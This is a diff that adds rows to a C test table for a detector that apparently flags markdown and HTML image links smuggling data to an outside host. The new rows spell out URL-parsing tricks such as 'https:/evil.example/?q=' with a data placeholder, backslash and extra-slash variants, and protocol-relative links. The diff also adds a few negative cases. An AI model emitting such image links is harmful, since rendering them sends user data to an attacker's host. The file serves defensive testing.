@@ -42,6 +42,18 @@ static const row rows[] = {
      "it "
      "began as one or as a picture](" EVIL "?q=" DATA ")",
      SP_KIND_OUTWARD_IMAGE, EVIL "?q=" DATA},
+    /* ---- what browsers take for "https://" ---- */
+    {"![a](https:/evil.example/?q=" DATA ")", SP_KIND_OUTWARD_IMAGE, "https:/evil.example/?q=" DATA},
+    {"![a](https:evil.example/?q=" DATA ")", SP_KIND_OUTWARD_IMAGE, "https:evil.example/?q=" DATA},
+    {"![a](https:\\\\evil.example/?q=" DATA ")", SP_KIND_OUTWARD_IMAGE, "https:\\\\evil.example/?q=" DATA},
+    {"![a](HTTP:/\\/evil.example/?q=" DATA ")", SP_KIND_OUTWARD_IMAGE, "HTTP:/\\/evil.example/?q=" DATA},
+    {"![a](https://///////////evil.example/?q=" DATA ")", SP_KIND_OUTWARD_IMAGE,
+     "https://///////////evil.example/?q=" DATA},
+    {"![a](///evil.example/?q=" DATA ")", SP_KIND_OUTWARD_IMAGE, "///evil.example/?q=" DATA},
+    {"<img src=\"https:/evil.example/?q=" DATA "\">", SP_KIND_OUTWARD_IMAGE, "https:/evil.example/?q=" DATA},
+    {"see https:evil.example/?q=" DATA " there", SP_KIND_NONE, NULL},
+    {"https: " DATA ", http: none", SP_KIND_NONE, NULL},
+    {"![a](xhttps:/evil.example/?q=" DATA ")", SP_KIND_NONE, NULL},
     /* ---- definitions, which images may refer to ---- */
     {"![x][ref]\n\n[ref]: " EVIL "?q=" DATA "\n", SP_KIND_OUTWARD_IMAGE, EVIL "?q=" DATA},
     {"[1]: <" EVIL "?q=" DATA ">", SP_KIND_OUTWARD_IMAGE, EVIL "?q=" DATA},
